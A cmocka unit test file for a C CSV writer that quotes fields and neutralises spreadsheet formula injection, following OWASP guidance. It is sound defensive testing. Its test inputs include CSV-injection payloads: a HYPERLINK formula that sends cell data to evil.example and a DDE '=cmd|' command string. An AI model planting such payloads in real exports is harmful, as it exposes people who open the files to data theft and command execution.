/* csv: quoting, and formulas neutralised for Excel (OWASP CSV injection). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <string.h>

#include "csv.h"

static void expect_field(const char *in, const char *want)
{
    buf_t b = BUF_INIT;
    csv_field(&b, in);
    if (strcmp(buf_str(&b), want) != 0) {
        print_error("csv_field(\"%s\") = %s, want %s\n", in, buf_str(&b), want);
        buf_free(&b);
        fail();
    }
    buf_free(&b);
}

static void plain_text_is_written_as_it_is(void **state)
{
    (void)state;
    expect_field("", "");
    expect_field("果园镇", "果园镇");
    expect_field("LIGHT", "LIGHT");
    expect_field("430121-001", "430121-001"); /* a dash inside is no formula */
    expect_field("a=b", "a=b");
    expect_field(" =1+1", " =1+1"); /* Excel does not evaluate a cell that begins with a space */
}

static void separators_and_quotes_are_quoted(void **state)
{
    (void)state;
    expect_field("a,b", "\"a,b\"");
    expect_field("say \"hi\"", "\"say \"\"hi\"\"\"");
    expect_field("two\nlines", "\"two\nlines\"");
    expect_field("cr\rinside", "\"cr\rinside\"");
}

static void formulas_get_a_quote_in_front_and_are_quoted(void **state)
{
    (void)state;
    expect_field("=1+1", "\"'=1+1\"");
    expect_field("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\"");
    expect_field("+86 138", "\"'+86 138\"");
    expect_field("-2+3", "\"'-2+3\"");
    expect_field("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"");
    expect_field("\t=1", "\"'\t=1\"");
    expect_field("\r=1", "\"'\r=1\"");
    expect_field("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"");
    /* fullwidth forms as a Chinese input method types them */
    expect_field("＝1+1", "\"'＝1+1\"");
    expect_field("＋1", "\"'＋1\"");
    expect_field("－1", "\"'－1\"");
    expect_field("＠A1", "\"'＠A1\"");
}

static void is_formula_names_exactly_the_dangerous_starts(void **state)
{
    (void)state;
    const char *yes[] = {"=", "+", "-", "@", "\t", "\r", "＝", "=a", NULL};
    const char *no[] = {"", "a", "1", " =", "中=", "'=1", "\n=1", "％", NULL};
    for (int i = 0; yes[i]; i++)
        if (!csv_is_formula(yes[i]))
            fail_msg("\"%s\" not taken for a formula", yes[i]);
    for (int i = 0; no[i]; i++)
        if (csv_is_formula(no[i]))
            fail_msg("\"%s\" taken for a formula", no[i]);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(plain_text_is_written_as_it_is),
        cmocka_unit_test(separators_and_quotes_are_quoted),
        cmocka_unit_test(formulas_get_a_quote_in_front_and_are_quoted),
        cmocka_unit_test(is_formula_names_exactly_the_dangerous_starts),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
